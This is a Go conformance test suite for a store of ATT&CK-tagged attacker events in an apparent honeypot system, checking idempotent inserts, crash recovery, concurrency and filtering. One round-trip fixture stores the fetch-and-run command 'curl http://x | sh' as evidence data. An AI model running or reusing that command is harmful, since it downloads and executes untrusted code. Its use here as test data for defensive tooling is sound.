// Package storetest is the conformance suite every store.Store passes: SQLite always,
// PostgreSQL when TTP_TEST_POSTGRES_URL names a server, and any store written later. It checks
// the promises the daemon's outbox is built on: an insert returns exactly the new rows, a
// replay inserts nothing, unpublished tags survive a crash until they are marked, and
// concurrent inserts never duplicate.
package storetest

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"os"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/decnet/ttp/abi"
	"github.com/decnet/ttp/store"
)

// NewURL returns the URL of a fresh, empty store for one test. Opening the URL a second time
// must open the same data, as a daemon restarted after a crash does: that is how the suite
// simulates a crash. The store's data is removed when the test ends (t.Cleanup).
type NewURL func(t *testing.T) string

// Run runs the conformance suite against the stores newURL names.
func Run(t *testing.T, newURL NewURL) {
	t.Run("InsertReturnsNew", func(t *testing.T) { testInsertReturnsNew(t, newURL) })
	t.Run("LargeInsertMixed", func(t *testing.T) { testLargeMixed(t, newURL) })
	t.Run("ReplayInsertsOnce", func(t *testing.T) { testReplay(t, newURL) })
	t.Run("PublishCycle", func(t *testing.T) { testPublishCycle(t, newURL) })
	t.Run("CrashBeforeMark", func(t *testing.T) { testCrashBeforeMark(t, newURL) })
	t.Run("BatchAcrossUpstreams", func(t *testing.T) { testBatch(t, newURL) })
	t.Run("RoundTrip", func(t *testing.T) { testRoundTrip(t, newURL) })
	t.Run("ConcurrentOverlap", func(t *testing.T) { testConcurrent(t, newURL) })
	t.Run("Invalid", func(t *testing.T) { testInvalid(t, newURL) })
	t.Run("Filter", func(t *testing.T) { testFilter(t, newURL) })
}

// PostgresURL returns the URL of a fresh PostgreSQL store for one test or benchmark: the
// server TTP_TEST_POSTGRES_URL names, with a schema of the test's own (so parallel runs never
// collide), dropped when the test ends. Without the variable the test is skipped, except under
// CI=true, where a missing variable fails it: CI must not pass by testing nothing. A server
// that cannot be reached fails the test, since whoever set the variable meant it to be used.
func PostgresURL(tb testing.TB) string {
	tb.Helper()
	base := os.Getenv("TTP_TEST_POSTGRES_URL")
	if base == "" {
		if os.Getenv("CI") == "true" {
			tb.Fatal("TTP_TEST_POSTGRES_URL is not set; with CI=true the PostgreSQL store must be tested")
		}
		tb.Skip("TTP_TEST_POSTGRES_URL is not set (e.g. postgres://postgres@127.0.0.1:5432/test?sslmode=disable): PostgreSQL store not tested")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	conn, err := pgx.Connect(ctx, base)
	if err != nil {
		tb.Fatalf("TTP_TEST_POSTGRES_URL: cannot reach the server: %v", err)
	}
	conn.Close(ctx)

	var suffix [6]byte
	_, _ = rand.Read(suffix[:])
	schema := "ttp_test_" + hex.EncodeToString(suffix[:])
	tb.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		conn, err := pgx.Connect(ctx, base)
		if err != nil {
			tb.Errorf("drop schema %s: %v", schema, err)
			return
		}
		defer conn.Close(ctx)
		if _, err := conn.Exec(ctx, `DROP SCHEMA IF EXISTS `+pgx.Identifier{schema}.Sanitize()+` CASCADE`); err != nil {
			tb.Errorf("drop schema %s: %v", schema, err)
		}
	})
	u, err := url.Parse(base)
	if err != nil {
		tb.Fatalf("TTP_TEST_POSTGRES_URL: %v", err)
	}
	q := u.Query()
	q.Set("schema", schema)
	u.RawQuery = q.Encode()
	return u.String()
}

// Tag returns a valid tag of event (kind, id) observed at observedAt for rule, with evidence
// naming the event, so that distinct arguments make distinct tag_uuids.
func Tag(kind, id, rule string, observedAt time.Time) abi.Tag {
	attacker := "a-" + id
	t := abi.Tag{
		RuleID:         rule,
		RuleVersion:    "0123456789abcdef",
		TechniqueID:    "T1059",
		SubTechniqueID: "T1059.004",
		Tactic:         "execution",
		Confidence:     0.75,
		Evidence:       map[string]any{"command_text": "uname -a #" + id},
		SourceKind:     kind,
		SourceID:       id,
		AttackerUUID:   &attacker,
		SessionID:      "sess-" + id,
		DeckyID:        "decky-1",
		Producer:       "engine",
		CreatedAt:      observedAt.Add(time.Second),
	}
	t.TagUUID = abi.TagUUID(observedAt, t.RuleID, t.RuleVersion, t.SourceKind, t.SourceID, t.TechniqueID, t.SubTechniqueID, t.Tactic)
	return t
}

// t0 is the observed_at of the suite's events.
var t0 = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// tags returns n tags of one upstream event, rules R9000.., in tag_uuid order.
func tags(kind, id string, n int) []abi.Tag {
	out := make([]abi.Tag, n)
	for i := range out {
		out[i] = Tag(kind, id, fmt.Sprintf("R9%03d", i), t0)
	}
	slices.SortFunc(out, func(a, b abi.Tag) int { return strings.Compare(a.TagUUID, b.TagUUID) })
	return out
}

func open(t *testing.T, u string) store.Store {
	t.Helper()
	s, err := store.Open(context.Background(), u)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Errorf("Close: %v", err)
		}
	})
	return s
}

// stored is what a store returns for t: created_at in UTC to the microsecond, evidence as JSON
// decodes it (numbers as float64, lists as []any).
func stored(t *testing.T, tag abi.Tag) abi.Tag {
	t.Helper()
	tag.CreatedAt = tag.CreatedAt.UTC().Truncate(time.Microsecond)
	tag.ObservedAt, _ = abi.TagUUIDTime(tag.TagUUID)
	if tag.Evidence != nil {
		b, err := json.Marshal(tag.Evidence)
		if err != nil {
			t.Fatal(err)
		}
		tag.Evidence = nil
		if err := json.Unmarshal(b, &tag.Evidence); err != nil {
			t.Fatal(err)
		}
	}
	return tag
}

func storedAll(t *testing.T, tags []abi.Tag) []abi.Tag {
	out := make([]abi.Tag, len(tags))
	for i, tag := range tags {
		out[i] = stored(t, tag)
	}
	return out
}

// equal compares tags field by field, times with Equal and evidence by its JSON (what
// InsertTags returns is the caller's map, where 42 may be an int; a read returns float64), and
// reports a JSON diff.
func equal(t *testing.T, what string, got, want []abi.Tag) {
	t.Helper()
	same := len(got) == len(want)
	for i := 0; same && i < len(got); i++ {
		g, w := got[i], want[i]
		ge, _ := json.Marshal(g.Evidence)
		we, _ := json.Marshal(w.Evidence)
		same = g.CreatedAt.Equal(w.CreatedAt) && string(ge) == string(we) && (g.Evidence == nil) == (w.Evidence == nil)
		g.CreatedAt, w.CreatedAt, g.Evidence, w.Evidence = time.Time{}, time.Time{}, nil, nil
		same = same && reflect.DeepEqual(g, w)
	}
	if !same {
		gj, _ := json.MarshalIndent(got, "", "  ")
		wj, _ := json.MarshalIndent(want, "", "  ")
		t.Errorf("%s:\n got %s\nwant %s", what, gj, wj)
	}
}

func uuids(tags []abi.Tag) []string {
	out := make([]string, len(tags))
	for i, t := range tags {
		out[i] = t.TagUUID
	}
	return out
}

func count(t *testing.T, s store.Store, want int64) {
	t.Helper()
	n, err := s.Count(context.Background())
	if err != nil {
		t.Fatalf("Count: %v", err)
	}
	if n != want {
		t.Errorf("Count = %d, want %d", n, want)
	}
}

func insert(t *testing.T, s store.Store, kind, id string, tags []abi.Tag) []abi.Tag {
	t.Helper()
	got, err := s.InsertTags(context.Background(), kind, id, tags)
	if err != nil {
		t.Fatalf("InsertTags: %v", err)
	}
	return got
}

func unpublished(t *testing.T, s store.Store, kind, id string) []abi.Tag {
	t.Helper()
	got, err := s.Unpublished(context.Background(), kind, id)
	if err != nil {
		t.Fatalf("Unpublished: %v", err)
	}
	return got
}

func mark(t *testing.T, s store.Store, ids []string) {
	t.Helper()
	if err := s.MarkPublished(context.Background(), ids); err != nil {
		t.Fatalf("MarkPublished: %v", err)
	}
}

func testInsertReturnsNew(t *testing.T, newURL NewURL) {
	s := open(t, newURL(t))
	all := tags("command", "c1", 5)
	steps := []struct {
		name  string
		give  []abi.Tag
		want  []abi.Tag
		count int64
	}{
		{"empty", nil, nil, 0},
		{"first three", all[:3], all[:3], 3},
		{"two old two new, new returned in input order", []abi.Tag{all[4], all[0], all[3], all[1]}, []abi.Tag{all[4], all[3]}, 5},
		{"a duplicate inside one call counts once", []abi.Tag{all[2], all[2]}, nil, 5},
		{"all old", all, nil, 5},
	}
	for _, st := range steps {
		got := insert(t, s, "command", "c1", st.give)
		equal(t, st.name, got, storedAll(t, st.want))
		count(t, s, st.count)
	}

	fresh := Tag("command", "c2", "R9100", t0)
	got := insert(t, s, "command", "c2", []abi.Tag{fresh, fresh})
	equal(t, "duplicate of a new tag inside one call", got, storedAll(t, []abi.Tag{fresh}))
}

// testLargeMixed inserts 1,000 tags of which every third is already stored, in an order that
// is not tag_uuid order: exactly the new ones come back, in the caller's order.
func testLargeMixed(t *testing.T, newURL NewURL) {
	s := open(t, newURL(t))
	all := make([]abi.Tag, 1000)
	for i := range all {
		all[i] = Tag("session", "s1", fmt.Sprintf("R%04d", i), t0.Add(time.Duration(i%37)*time.Millisecond))
	}
	var old, fresh []abi.Tag
	for i, tag := range all {
		if i%3 == 0 {
			old = append(old, tag)
		} else {
			fresh = append(fresh, tag)
		}
	}
	if got := insert(t, s, "session", "s1", old); len(got) != len(old) {
		t.Fatalf("first insert: %d, want %d", len(got), len(old))
	}
	equal(t, "the new two thirds", insert(t, s, "session", "s1", all), storedAll(t, fresh))
	count(t, s, int64(len(all)))
	if got := unpublished(t, s, "session", "s1"); len(got) != len(all) {
		t.Errorf("unpublished: %d, want %d", len(got), len(all))
	}
}

func testReplay(t *testing.T, newURL NewURL) {
	s := open(t, newURL(t))
	event := tags("session", "s1", 4)
	for i := range 100 {
		got := insert(t, s, "session", "s1", event)
		want := 0
		if i == 0 {
			want = len(event)
		}
		if len(got) != want {
			t.Fatalf("replay %d inserted %d tags, want %d", i, len(got), want)
		}
	}
	count(t, s, int64(len(event)))
	all, err := s.Tags(context.Background(), store.Filter{})
	if err != nil {
		t.Fatalf("Tags: %v", err)
	}
	equal(t, "stored after 100 replays", all, storedAll(t, event))
}

func testPublishCycle(t *testing.T, newURL NewURL) {
	s := open(t, newURL(t))
	a, b := tags("command", "a", 3), tags("command", "b", 2)
	insert(t, s, "command", "a", []abi.Tag{a[2], a[0], a[1]})
	insert(t, s, "command", "b", b)

	equal(t, "unpublished before mark (ordered by tag_uuid)", unpublished(t, s, "command", "a"), storedAll(t, a))
	mark(t, s, uuids(a))
	if got := unpublished(t, s, "command", "a"); len(got) != 0 {
		t.Errorf("unpublished after mark: %d tags, want none", len(got))
	}
	equal(t, "another upstream event is not marked", unpublished(t, s, "command", "b"), storedAll(t, b))

	mark(t, s, uuids(a))                                                      // again: harmless
	mark(t, s, []string{abi.TagUUID(t0, "R1", "v", "k", "x", "T1", "", "t")}) // unknown: ignored
	mark(t, s, nil)
	if got := unpublished(t, s, "command", "a"); len(got) != 0 {
		t.Errorf("unpublished after a second mark: %d tags", len(got))
	}
	mark(t, s, uuids(b[:1]))
	equal(t, "a partial mark leaves the rest", unpublished(t, s, "command", "b"), storedAll(t, b[1:]))
	count(t, s, 5)
	if got := unpublished(t, s, "command", "nothing"); len(got) != 0 {
		t.Errorf("unpublished of an unknown event: %d tags", len(got))
	}
}

// testCrashBeforeMark plays the daemon dying between the insert and the mark: the first store
// handle is abandoned unclosed, as a killed process leaves it, and a second handle on the same
// data plays the restarted daemon receiving the redelivery.
func testCrashBeforeMark(t *testing.T, newURL NewURL) {
	u := newURL(t)
	ctx := context.Background()
	event := tags("session", "s1", 3)

	first := open(t, u)
	if got := insert(t, first, "session", "s1", event); len(got) != 3 {
		t.Fatalf("first delivery inserted %d, want 3", len(got))
	}
	// crash: no publish, no mark, no ack, no Close

	second := open(t, u)
	if got := insert(t, second, "session", "s1", event); len(got) != 0 {
		t.Errorf("redelivery inserted %d tags, want none", len(got))
	}
	pending := unpublished(t, second, "session", "s1")
	equal(t, "redelivery republishes what the crash left unmarked", pending, storedAll(t, event))
	mark(t, second, uuids(pending))
	// crash after mark, before ack: the next redelivery publishes nothing
	if err := second.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}

	third, err := store.Open(ctx, u)
	if err != nil {
		t.Fatalf("reopen: %v", err)
	}
	defer third.Close()
	if got := insert(t, third, "session", "s1", event); len(got) != 0 {
		t.Errorf("second redelivery inserted %d tags", len(got))
	}
	if got := unpublished(t, third, "session", "s1"); len(got) != 0 {
		t.Errorf("second redelivery would republish %d tags", len(got))
	}
	count(t, third, 3)
}

func testBatch(t *testing.T, newURL NewURL) {
	s := open(t, newURL(t))
	ctx := context.Background()

	// A session fanned out by abi.Expand: the session's own tag and its commands' tags, all in
	// the session's envelope.
	session := Tag("session", "s1", "R9031", t0)
	cmd0 := Tag("command", "s1#0", "R9001", t0)
	cmd1 := Tag("command", "s1#1", "R9002", t0)
	auth := Tag("auth", "a1", "R9059", t0.Add(time.Minute))
	old := Tag("auth", "a0", "R9059", t0.Add(-time.Minute))
	insert(t, s, "auth", "a0", []abi.Tag{old})

	got, err := s.InsertBatch(ctx, []store.Batch{
		{UpstreamKind: "session", UpstreamID: "s1", Tags: []abi.Tag{session, cmd0, cmd1}},
		{UpstreamKind: "identity", UpstreamID: "i1"}, // no tags
		{UpstreamKind: "auth", UpstreamID: "a1", Tags: []abi.Tag{auth}},
		{UpstreamKind: "auth", UpstreamID: "a0", Tags: []abi.Tag{old}},     // a redelivery
		{UpstreamKind: "session", UpstreamID: "s1", Tags: []abi.Tag{cmd1}}, // the same tag twice
	})
	if err != nil {
		t.Fatalf("InsertBatch: %v", err)
	}
	if len(got) != 5 {
		t.Fatalf("InsertBatch returned %d results, want 5", len(got))
	}
	want := [][]abi.Tag{storedAll(t, []abi.Tag{session, cmd0, cmd1}), nil, storedAll(t, []abi.Tag{auth}), nil, nil}
	for i := range want {
		equal(t, fmt.Sprintf("batch %d", i), got[i], want[i])
	}
	count(t, s, 5)

	sessionTags := storedAll(t, []abi.Tag{session, cmd0, cmd1})
	slices.SortFunc(sessionTags, func(a, b abi.Tag) int { return strings.Compare(a.TagUUID, b.TagUUID) })
	equal(t, "the session's envelope holds its commands' tags", unpublished(t, s, "session", "s1"), sessionTags)
	if got := unpublished(t, s, "command", "s1#0"); len(got) != 0 {
		t.Errorf("a fanned-out command is an upstream of its own: %d tags", len(got))
	}
	equal(t, "auth a1", unpublished(t, s, "auth", "a1"), storedAll(t, []abi.Tag{auth}))

	empty, err := s.InsertBatch(ctx, nil)
	if err != nil || len(empty) != 0 {
		t.Errorf("InsertBatch(nil) = %v, %v", empty, err)
	}
}

func testRoundTrip(t *testing.T, newURL NewURL) {
	s := open(t, newURL(t))
	base := func(id string) abi.Tag { return Tag("command", id, "R9001", t0) }
	cases := []struct {
		name string
		edit func(*abi.Tag)
	}{
		{"identity tag with null attacker_uuid", func(g *abi.Tag) {
			g.SourceKind, g.AttackerUUID, g.IdentityUUID, g.SessionID = "identity", nil, "ident-1", ""
		}},
		{"attacker_uuid set", func(g *abi.Tag) { a := "5b0c2d0e-attacker"; g.AttackerUUID = &a }},
		{"empty attacker_uuid is not null", func(g *abi.Tag) { a := ""; g.AttackerUUID = &a }},
		{"evidence strings", func(g *abi.Tag) {
			g.Evidence = map[string]any{"command_text": "curl http://x | sh", "quote": `"'\` + "\n\t", "unicode": "ünïcødé ✓ 攻撃"}
		}},
		{"evidence numbers", func(g *abi.Tag) {
			g.Evidence = map[string]any{"int": 42, "neg": -7, "float": 0.125, "big": 1e300, "small": 5e-324, "zero": 0.0}
		}},
		{"evidence lists and objects", func(g *abi.Tag) {
			g.Evidence = map[string]any{
				"urls":    []any{"http://a", "http://b"},
				"counts":  []any{1.0, 2.5, 3.0},
				"mixed":   []any{"x", 1.0, true, nil},
				"empty":   []any{},
				"object":  map[string]any{"k": "v"},
				"flag":    false,
				"nothing": nil,
			}
		}},
		{"evidence nil stays nil", func(g *abi.Tag) { g.Evidence = nil }},
		{"evidence empty stays empty", func(g *abi.Tag) { g.Evidence = map[string]any{} }},
		{"optional fields absent", func(g *abi.Tag) {
			g.SubTechniqueID, g.IdentityUUID, g.SessionID, g.DeckyID = "", "", "", ""
		}},
		{"created_at in another zone with nanoseconds", func(g *abi.Tag) {
			g.CreatedAt = time.Date(2026, 3, 1, 13, 0, 0, 123456789, time.FixedZone("CET", 3600))
		}},
		{"created_at zero", func(g *abi.Tag) { g.CreatedAt = time.Time{} }},
		{"confidence extremes", func(g *abi.Tag) { g.Confidence = 1e-9 }},
		{"plugin producer", func(g *abi.Tag) { g.Producer = "behavioral@1.2.3" }},
	}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			tag := base(fmt.Sprintf("rt%d", i))
			c.edit(&tag)
			tag.TagUUID = abi.TagUUID(t0, tag.RuleID, tag.RuleVersion, tag.SourceKind, tag.SourceID, tag.TechniqueID, tag.SubTechniqueID, tag.Tactic)
			id := fmt.Sprintf("up%d", i)
			want := []abi.Tag{stored(t, tag)}
			equal(t, "InsertTags", insert(t, s, "x", id, []abi.Tag{tag}), want)
			equal(t, "Unpublished", unpublished(t, s, "x", id), want)
			got, err := s.Tags(context.Background(), store.Filter{UpstreamKind: "x", UpstreamID: id})
			if err != nil {
				t.Fatalf("Tags: %v", err)
			}
			equal(t, "Tags", got, want)
			if len(got) == 1 && (got[0].AttackerUUID == nil) != (tag.AttackerUUID == nil) {
				t.Errorf("attacker_uuid nil = %v, want %v", got[0].AttackerUUID == nil, tag.AttackerUUID == nil)
			}
			if len(got) == 1 {
				j, _ := json.Marshal(got[0])
				if tag.AttackerUUID == nil && !strings.Contains(string(j), `"attacker_uuid":null`) {
					t.Errorf("attacker_uuid does not marshal as null: %s", j)
				}
			}
		})
	}
}

// testConcurrent runs several writers over overlapping slices of one pool of tags, half through
// InsertTags and half through InsertBatch; every tag must be reported inserted exactly once.
func testConcurrent(t *testing.T, newURL NewURL) {
	s := open(t, newURL(t))
	const workers, rounds, poolSize, width = 6, 15, 120, 30
	pool := make([]abi.Tag, poolSize)
	for i := range pool {
		pool[i] = Tag("command", fmt.Sprintf("e%d", i/4), fmt.Sprintf("R9%03d", i%4), t0.Add(time.Duration(i)*time.Millisecond))
	}
	var (
		mu       sync.Mutex
		inserted = map[string]int{}
		wg       sync.WaitGroup
		errs     = make(chan error, workers)
	)
	for w := range workers {
		wg.Go(func() {
			ctx := context.Background()
			for r := range rounds {
				start := (w*17 + r*11) % (poolSize - width)
				part := slices.Clone(pool[start : start+width])
				if (w+r)%2 == 0 {
					slices.Reverse(part) // a different order in each writer
				}
				var got []abi.Tag
				if w%2 == 0 {
					var err error
					if got, err = s.InsertTags(ctx, "session", fmt.Sprintf("w%d", w), part); err != nil {
						errs <- err
						return
					}
				} else {
					res, err := s.InsertBatch(ctx, []store.Batch{
						{UpstreamKind: "session", UpstreamID: "x", Tags: part[:width/2]},
						{UpstreamKind: "session", UpstreamID: "y", Tags: part[width/2:]},
					})
					if err != nil {
						errs <- err
						return
					}
					got = append(res[0], res[1]...)
				}
				mu.Lock()
				for _, g := range got {
					inserted[g.TagUUID]++
				}
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatalf("concurrent insert: %v", err)
	}
	for id, n := range inserted {
		if n != 1 {
			t.Errorf("tag %s reported inserted %d times", id, n)
		}
	}
	all, err := s.Tags(context.Background(), store.Filter{})
	if err != nil {
		t.Fatalf("Tags: %v", err)
	}
	if len(all) != len(inserted) {
		t.Errorf("stored %d tags, reported %d inserted", len(all), len(inserted))
	}
	for i := 1; i < len(all); i++ {
		if all[i-1].TagUUID >= all[i].TagUUID {
			t.Fatalf("duplicate or unordered tag_uuid %s", all[i].TagUUID)
		}
	}
}

func testInvalid(t *testing.T, newURL NewURL) {
	s := open(t, newURL(t))
	ctx := context.Background()
	good := Tag("command", "c1", "R9001", t0)
	upper := good
	upper.TagUUID = strings.ToUpper(good.TagUUID)
	cases := []struct {
		name     string
		kind, id string
		tags     []abi.Tag
	}{
		{"empty tag_uuid", "command", "c1", []abi.Tag{good, {}}},
		{"upper-case tag_uuid", "command", "c1", []abi.Tag{good, upper}},
		{"not a UUID", "command", "c1", []abi.Tag{good, func() abi.Tag { b := good; b.TagUUID = "R0001:c1"; return b }()}},
		{"empty upstream id", "command", "", []abi.Tag{good}},
		{"empty upstream kind", "", "c1", []abi.Tag{good}},
		{"evidence without JSON form", "command", "c1", []abi.Tag{func() abi.Tag { b := good; b.Evidence = map[string]any{"f": func() {}}; return b }()}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if _, err := s.InsertTags(ctx, c.kind, c.id, c.tags); !errors.Is(err, store.ErrInvalidTag) {
				t.Errorf("InsertTags error = %v, want ErrInvalidTag", err)
			}
			count(t, s, 0) // nothing of a rejected call is stored
		})
	}
	if err := s.MarkPublished(ctx, []string{good.TagUUID, "nope"}); !errors.Is(err, store.ErrInvalidTag) {
		t.Errorf("MarkPublished error = %v, want ErrInvalidTag", err)
	}
}

func testFilter(t *testing.T, newURL NewURL) {
	s := open(t, newURL(t))
	a, b, c := tags("session", "s1", 2), tags("session", "s2", 3), tags("auth", "s1", 1)
	insert(t, s, "session", "s1", a)
	insert(t, s, "session", "s2", b)
	insert(t, s, "auth", "s1", c)
	mark(t, s, uuids(b)) // Tags reads published and unpublished alike
	late := []abi.Tag{Tag("command", "late", "R9100", t0.Add(time.Hour))}
	untimed := []abi.Tag{Tag("command", "untimed", "R9101", time.Time{})}
	insert(t, s, "command", "late", late)
	insert(t, s, "command", "untimed", untimed)
	sorted := func(groups ...[]abi.Tag) []abi.Tag {
		out := storedAll(t, slices.Concat(groups...))
		slices.SortFunc(out, func(x, y abi.Tag) int { return strings.Compare(x.TagUUID, y.TagUUID) })
		return out
	}
	cases := []struct {
		name   string
		filter store.Filter
		want   []abi.Tag
	}{
		{"all", store.Filter{}, sorted(a, b, c, late, untimed)},
		{"since the first event", store.Filter{Since: t0}, sorted(a, b, c, late)},
		{"since between", store.Filter{Since: t0.Add(30 * time.Minute)}, sorted(late)},
		{"since exactly the last", store.Filter{Since: t0.Add(time.Hour)}, sorted(late)},
		{"since just after the last", store.Filter{Since: t0.Add(time.Hour + time.Microsecond)}, nil},
		{"since and upstream", store.Filter{UpstreamKind: "session", Since: t0}, sorted(a, b)},
		{"by upstream", store.Filter{UpstreamKind: "session", UpstreamID: "s2"}, sorted(b)},
		{"by upstream id across kinds", store.Filter{UpstreamID: "s1"}, sorted(a, c)},
		{"by upstream kind", store.Filter{UpstreamKind: "session"}, sorted(a, b)},
		{"no match", store.Filter{UpstreamKind: "email", UpstreamID: "s1"}, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, err := s.Tags(context.Background(), c.filter)
			if err != nil {
				t.Fatalf("Tags: %v", err)
			}
			equal(t, "Tags", got, c.want)
			for _, g := range got {
				if want, _ := abi.TagUUIDTime(g.TagUUID); !g.ObservedAt.Equal(want) {
					t.Errorf("tag %s: observed_at %v, want %v", g.TagUUID, g.ObservedAt, want)
				}
			}
		})
	}
	count(t, s, 8)
}
